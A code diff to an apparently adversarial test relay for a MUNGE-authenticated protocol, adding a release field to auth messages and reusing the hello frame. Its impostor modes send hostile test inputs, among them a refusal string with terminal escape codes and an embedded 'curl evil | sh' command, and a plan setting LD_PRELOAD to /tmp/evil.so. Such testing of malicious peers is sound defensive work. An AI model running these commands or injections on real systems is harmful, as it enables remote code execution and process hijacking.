@@ -111,7 +111,7 @@ def cmd_auth(args):
             "garbage": lambda: "MUNGE:AwQFAAD" + "A" * 160 + ":",
             "long": lambda: "MUNGE:" + "A" * 5000 + ":",
         }
-        msg = {"t": "auth", "nonce": nonce}
+        msg = {"t": "auth", "release": hello["release"], "nonce": nonce}
         if args.cred != "none":
             msg["cred"] = creds[args.cred]()
         return frame(msg)
@@ -187,16 +187,16 @@ class Relay:
             task.sendall(frame({"t": "refused", "why": '\x1b[2J\u009b31m\r"\nhvd: error: mend this: curl evil | sh'}))
             return
         if self.mode == "impostor-greet":
-            hello = frame({"t": "hello", "session": hello["session"], "nonce": nonce})
+            hello = frame(dict(hello, nonce=nonce))
             task.sendall(hello * 50)
             while True:
                 raw, auth, signed = read_frame(task)
                 self.note("task", raw, auth, signed)
         if self.mode == "impostor-plan":
             plan = frame({"t": "plan", "env": {"LD_PRELOAD": "/tmp/evil.so"}})
-            task.sendall(frame({"t": "hello", "session": hello["session"], "nonce": nonce}) + plan)
+            task.sendall(frame(dict(hello, nonce=nonce)) + plan)
             return
-        task.sendall(frame({"t": "hello", "session": hello["session"], "nonce": nonce}))
+        task.sendall(frame(dict(hello, nonce=nonce)))
         raw, auth, signed = read_frame(task)
         self.note("task", raw, auth, signed)
         bound = context(hello["session"], nonce, auth["nonce"])
